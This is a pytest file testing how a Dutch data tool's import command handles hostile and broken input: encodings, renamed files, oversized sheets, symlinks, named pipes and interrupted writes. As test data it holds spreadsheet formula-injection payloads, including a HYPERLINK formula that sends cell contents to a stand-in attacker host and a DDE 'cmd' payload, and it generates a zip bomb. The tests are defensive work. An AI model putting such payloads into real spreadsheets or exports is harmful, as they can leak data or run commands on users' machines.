"""`dvo import` under hostile and broken input: formula cells, encodings, files that are not what
their name says, a zip bomb, a million rows, a read-only gemeente file, a link out of the repository.

Case files are in tests/hostile/import/; the zip bomb and the million-row sheets are made
by the test. Each case asserts the exact outcome and that no gemeente file changed.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from tests.conftest import REPO, Region

CASES = REPO / "tests" / "hostile" / "import"
W = "gemeenten/wijchen.yaml"
NIETS = "er is niets geschreven."


def _hashes(region: Region) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(region.path("gemeenten").iterdir())}


def run_import(region: Region, path: Path, *args: str) -> tuple[int, list[str]]:
    result = region.dvo("import", str(path), *args)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, result.output.splitlines()


def refused(region: Region, path: Path, problems: list[str]) -> None:
    """The exact problem lines, exit 1, and no file in gemeenten/ touched (nor a temp file left)."""
    before = _hashes(region)
    code, lines = run_import(region, path)
    n = len(problems)
    assert code == 1
    assert lines == problems + [f"{n} {'probleem' if n == 1 else 'problemen'} gevonden; {NIETS}"]
    assert _hashes(region) == before


def test_formula_cells_are_plain_text_and_refused_where_a_value_is_expected(region: Region):
    known = (
        "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, "
        "Ubbergen, Wijchen"
    )
    refused(
        region,
        CASES / "formule-injectie.csv",
        [
            "formule-injectie.csv:2: gemeente: onbekende gemeente "
            f'\'=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")\'; {known} [verwijzing-onbekend]',
            "formule-injectie.csv:3: indicator: onbekende indicator '@SUM(1+1)*cmd|' /C calc'!A0'; gebruik een id "
            "uit content/indicatoren.yaml, zoals 'uitstroom-werk' [verwijzing-onbekend]",
            "formule-injectie.csv:4: waarde: verwacht een getal zoals 42 of 71,4, gevonden '+cmd|' /C calc'!A0' "
            "[getal-ongeldig]",
            "formule-injectie.csv:5: periode: verwacht een jaar zoals '2016', gevonden '=1+1' [periode-ongeldig]",
            "formule-injectie.csv:6: waarde: verwacht een getal zoals 42 of 71,4, gevonden '-2+3' [getal-ongeldig]",
            "formule-injectie.csv:7: waarde: verwacht een getal van hoogstens 15 cijfers, gevonden 40 tekens "
            "[waarde-buiten-bereik]",
        ],
    )


def _xlsx_with_formula(path: Path, formula: str, cached: str | None) -> None:
    """A sheet whose waarde cell is a formula, as Excel saves it: the formula and its last value."""
    wb = Workbook()
    ws = wb.active
    ws.append(["gemeente", "indicator", "periode", "waarde"])
    ws.append(["Wijchen", "uitstroom-werk", 2017, 0])
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    cell = f'<c r="D2"><f>{formula}</f>' + (f"<v>{cached}</v>" if cached is not None else "") + "</c>"
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    assert '<c r="D2" t="n"><v>0</v></c>' in sheet
    members["xl/worksheets/sheet1.xml"] = sheet.replace('<c r="D2" t="n"><v>0</v></c>', cell).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)


def test_an_excel_formula_is_stored_as_its_plain_value_never_as_a_formula(region: Region):
    path = region.path("export.xlsx")
    _xlsx_with_formula(path, "40+81", "121")
    code, lines = run_import(region, path)
    assert code == 0, lines
    text = region.read(W)
    assert "      2017: 121\n" in text and "40+81" not in text and "=" not in text


def test_an_excel_formula_without_a_calculated_value_is_an_empty_cell(region: Region):
    path = region.path("export.xlsx")
    _xlsx_with_formula(path, 'HYPERLINK("http://aanvaller.example","x")', None)
    refused(region, path, ["export.xlsx:2: waarde: leeg; verwacht een getal [cel-leeg]"])


def test_open_data_csv_never_holds_a_cell_a_spreadsheet_would_execute():
    from generator.util.tabular import to_csv

    rows = [
        {"toelichting": t, "realisatie": v}
        for t, v in [
            ('=HYPERLINK("http://aanvaller.example")', -5),
            ("+cmd|' /C calc'!A0", 1),
            ("@SUM(1+1)", 2),
            ("-2+3", 3),
            ("\tverborgen", 4),
            ("gewone tekst", 5),
        ]
    ]
    from decimal import Decimal

    rows = [{**r, "realisatie": Decimal(r["realisatie"])} for r in rows]
    assert to_csv(rows).splitlines() == [
        "toelichting,realisatie",
        '"\'=HYPERLINK(""http://aanvaller.example"")",-5',
        "'+cmd|' /C calc'!A0,1",
        "'@SUM(1+1),2",
        "'-2+3,3",
        "'\tverborgen,4",
        "gewone tekst,5",
    ]


def test_dutch_excel_csv_in_windows_1252_is_read_and_the_encoding_named(region: Region):
    code, lines = run_import(region, CASES / "windows-1252.csv")
    assert code == 0, lines
    assert lines == [
        "windows-1252.csv gelezen als Windows-1252.",
        "Realisaties ingelezen: 1 nieuw, 0 gewijzigd, 0 ongewijzigd, in 1 bestand.",
    ]
    assert "      2017: 121\n" in region.read(W)


def test_latin_1_text_is_decoded_right_in_the_message(region: Region):
    known = (
        "bekend zijn: Beuningen, Druten, Groesbeek, Heumen, Millingen aan de Rijn, Mook en Middelaar, Nijmegen, "
        "Ubbergen, Wijchen"
    )
    refused(
        region,
        CASES / "latin-1.csv",
        [f"latin-1.csv:2: gemeente: onbekende gemeente 'Drüten'; {known}; bedoelt u 'Druten'? [verwijzing-onbekend]"],
    )


def test_utf8_with_byte_order_mark_and_crlf_is_read(region: Region):
    code, lines = run_import(region, CASES / "utf8-bom.csv")
    assert code == 0 and lines[0] == "utf8-bom.csv gelezen als UTF-8 (met BOM)."


@pytest.mark.parametrize(
    "name, problem",
    [
        (
            "onleesbaar.csv",
            "onleesbaar.csv:2: de tekst is geen UTF-8 en geen Windows-1252 (byte 0x81); sla het bestand op als "
            "'CSV UTF-8' [tekenset-ongeldig]",
        ),
        (
            "utf16.csv",
            "utf16.csv: het bestand is UTF-16 (Excel: 'Unicode-tekst'); sla het op als 'CSV UTF-8' of 'CSV "
            "(gescheiden door lijstscheidingsteken)' [tekenset-ongeldig]",
        ),
        (
            "hernoemd.xlsx",
            "hernoemd.xlsx: is geen Excel-bestand: een .xlsx-bestand is een zip-archief en dit bestand is dat "
            "niet (een hernoemd CSV- of tekstbestand?) [export-onleesbaar]",
        ),
    ],
)
def test_unreadable_exports_are_refused_by_name(region: Region, name: str, problem: str):
    refused(region, CASES / name, [problem])


def test_a_zip_bomb_is_refused_before_it_is_inflated(region: Region):
    """256 MB of zeros in a 1 MB file: refused from the sizes the archive declares."""
    path = region.path("bom.xlsx")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            block = b"\0" * (1 << 20)
            for _ in range(256):
                fh.write(block)
    assert path.stat().st_size < 2 * 2**20
    refused(
        region,
        path,
        [
            "bom.xlsx: uitgepakt zou dit Excel-bestand 268.435.464 bytes in 2 delen zijn (hoogstens 209.715.200); "
            "het wordt niet geopend (een zip-bom?) [bestand-te-groot]"
        ],
    )


TOO_MANY = (
    "meer dan 100.000 rijen met gegevens; dat is geen export van realisaties. Splits het bestand of controleer of u "
    "het goede bestand hebt gekozen"
)


def test_a_million_row_csv_is_refused(region: Region):
    path = region.path("miljoen.csv")
    path.write_bytes(b"gemeente,indicator,periode,waarde\n" + b"Wijchen,uitstroom-werk,2017,1\n" * 1_000_000)
    refused(region, path, [f"miljoen.csv: {TOO_MANY} [te-veel-rijen]"])


def test_a_million_row_sheet_is_refused_without_reading_it(region: Region):
    """Counted in the sheet's XML; the <dimension> is left out, so it cannot be what refuses it."""
    path = region.path("miljoen.xlsx")
    wb = Workbook()
    wb.active.append(["gemeente", "indicator", "periode", "waarde"])
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    head, tail = members["xl/worksheets/sheet1.xml"].split(b"</sheetData>")
    head = head.replace(b'<dimension ref="A1:D1" />', b"")
    members["xl/worksheets/sheet1.xml"] = head + b"<row><c><v>1</v></c></row>" * 1_000_000 + b"</sheetData>" + tail
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, data in members.items():
            z.writestr(name, data)
    refused(region, path, [f"miljoen.xlsx: {TOO_MANY} [te-veel-rijen]"])


def test_read_only_gemeente_file_is_refused_and_nothing_is_written(region: Region):
    region.path(W).chmod(0o444)
    refused(
        region,
        CASES / "windows-1252.csv",
        [
            "gemeenten/wijchen.yaml: het bestand is alleen-lezen; maak het schrijfbaar om realisaties in te lezen "
            "[bestand-alleen-lezen]",
        ],
    )
    assert region.path(W).stat().st_mode & 0o777 == 0o444


def test_export_linked_to_a_file_outside_the_repository_is_refused(region: Region, tmp_path_factory):
    secret = tmp_path_factory.mktemp("elders") / "geheim.csv"
    secret.write_text("gemeente,indicator,periode,waarde\ngeheime regel,x,2017,1\n", encoding="utf-8")
    link = region.path("export.csv")
    link.symlink_to(secret)
    refused(
        region,
        link,
        [
            f"export.csv: is een symbolische koppeling naar '{secret.resolve()}', buiten de regio-repository; "
            "geef het bestand zelf op in plaats van een koppeling ernaar [bestand-buiten-repository]"
        ],
    )


def test_named_pipe_as_export_is_refused_without_hanging(region: Region):
    pipe = region.path("export.csv")
    os.mkfifo(pipe)
    before = _hashes(region)
    proc = subprocess.run(
        [sys.executable, "-m", "generator", "import", str(pipe), "--root", str(region.root)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
    )
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        "export.csv: is geen gewoon bestand (maar bijvoorbeeld een named pipe of apparaat) [bestand-ongeschikt]",
        f"1 probleem gevonden; {NIETS}",
    ]
    assert _hashes(region) == before


KILLED_AT = {
    # after the first new file is written and synced to its temp file, before any rename
    "schrijven": (
        "real = os.fsync\ndef hook(fd):\n    real(fd)\n    os.kill(os.getpid(), signal.SIGKILL)\nos.fsync = hook\n"
    ),
    # after the first gemeente file is replaced, before the second
    "vervangen": "real = os.replace\ndef hook(src, dst):\n    real(src, dst)\n    os.kill(os.getpid(), "
    "signal.SIGKILL)\nos.replace = hook\n",
}
TWO_FILES = "gemeente,indicator,periode,waarde\nWijchen,uitstroom-werk,2017,121\nDruten,uitstroom-werk,2017,77\n"


@pytest.mark.parametrize("moment", list(KILLED_AT))
def test_import_killed_during_the_write_leaves_every_file_whole(region: Region, tmp_path_factory, moment: str):
    """SIGKILL in the middle of writing: each gemeente file is its old or its new version, never half;
    the data still validates, and running the import again finishes the job."""
    from tests.conftest import copy_region

    export = region.path("export.csv")
    export.write_text(TWO_FILES, encoding="utf-8")
    clean = Region(copy_region(tmp_path_factory.mktemp("schoon")))
    assert run_import(clean, export)[0] == 0
    names = ["wijchen.yaml", "druten.yaml"]
    old = {n: region.path(f"gemeenten/{n}").read_bytes() for n in names}
    new = {n: clean.path(f"gemeenten/{n}").read_bytes() for n in names}
    assert all(old[n] != new[n] for n in names)
    script = "import os, signal, sys\n" + KILLED_AT[moment] + "from generator.cli import main\nmain()\n"
    proc = subprocess.run(
        [sys.executable, "-c", script, "import", str(export), "--root", str(region.root)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
    )
    assert proc.returncode == -9, proc.stderr
    now = {n: region.path(f"gemeenten/{n}").read_bytes() for n in names}
    if moment == "schrijven":
        assert now == old  # nothing was replaced yet
    else:
        assert sum(now[n] == new[n] for n in names) == 1 and all(now[n] in (old[n], new[n]) for n in names)
    leftovers = [p.name for p in region.path("gemeenten").iterdir() if p.name.endswith(".tmp")]
    assert leftovers and all(p.startswith(".") for p in leftovers)  # hidden, ignored by validate and git
    assert region.dvo("validate").exit_code == 0
    assert run_import(region, export)[0] == 0
    assert {n: region.path(f"gemeenten/{n}").read_bytes() for n in names} == new
